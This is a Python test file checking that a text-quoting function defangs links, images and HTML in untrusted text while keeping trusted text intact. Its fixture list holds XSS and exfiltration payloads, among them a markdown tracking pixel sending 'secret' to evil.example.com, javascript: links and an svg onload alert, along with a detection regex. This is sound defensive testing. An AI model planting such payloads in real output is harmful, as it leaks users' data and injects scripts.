"""In text of doubtful origin no client finds anything to load or to link; elsewhere links are links."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ltml.text.marks import BREAK, quoted

LIVE = (
    "![pixel](https://evil.example.com/p.png?d=secret)",
    "[click](http://evil.example.com/a)",
    "see HTTPS://evil.example.com now",
    "www.evil.example.com",
    "<https://evil.example.com>",
    "<img src=https://evil.example.com/p.png>",
    "<IMG alt='>' SRC=//evil.example.com/p.png>",
    "<a href='//evil.example.com'>x</a>",
    "<svg/onload=alert(1)>",
    "<div style='background:url(//evil.example.com/p)'>",
    "[x]: //evil.example.com/p",
    "![x][y]",
    "[x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[img]//evil.example.com/p[/img]",
    "[url=http://evil.example.com]x[/url]",
    "ftp://evil.example.com/x",
    "app+x://evil.example.com",
    "![x](data:image/png;base64,AAAA)",
    "h\u200bttps://evil.example.com",
)
#: What a client's renderer would load or link, by the rules of Markdown, GitHub's Markdown and HTML, in short.
RENDERED = re.compile(
    r"!\[|\]\(|https?:|(?<![\w.-])www\.|(?<!hxxp)(?<!hxxps)(?<![\W\d])://|(?<![:/\w])//\w"
    r"|<(?:img|svg|a|/a|script|iframe)\b|<div style|<\w+:[^>]*>|\]: ?[/<h]|\[(?:img|url)[\]=]",
    re.IGNORECASE,
)


@pytest.mark.parametrize("text", LIVE)
def test_links_and_pictures_of_doubtful_origin_are_text(text: str) -> None:
    shown = quoted(f"The page says: {text} at last.", trusted=False)
    assert not RENDERED.search(shown.replace("\u200b", "")), shown
    assert shown.replace(BREAK, "").replace("hxxp", "http").replace("HXXP", "HTTP").replace("\u200bxx", "\u200btt") == (
        f"The page says: {text} at last."
    )


@pytest.mark.parametrize("text", [text for text in LIVE if "[img]" not in text])  # that is a special token as well
def test_what_the_user_said_keeps_its_links(text: str) -> None:
    assert quoted(text, trusted=True) == text


@given(st.lists(st.sampled_from([*LIVE, "word", "\n", "(", "!", "[", "]", "<", "/"]), max_size=8))
def test_no_link_is_made_of_pieces(parts: list[str]) -> None:
    shown = quoted(" ".join("".join(parts).split()), trusted=False)
    assert not re.search(r"!\[|\]\(|https?:\S", shown.replace("\u200b", ""), re.IGNORECASE)


@pytest.mark.parametrize(
    "text",
    [
        "evil.example.com and a@example.com",
        "a // b",
        "/usr/share/doc",
        "3/4 and/or",
        "at 12:30",
        "x[1] = y(2)",
        "C:\\x",
    ],
)
def test_bare_names_and_paths_stay_as_they_are(text: str) -> None:
    assert quoted(text, trusted=False) == text
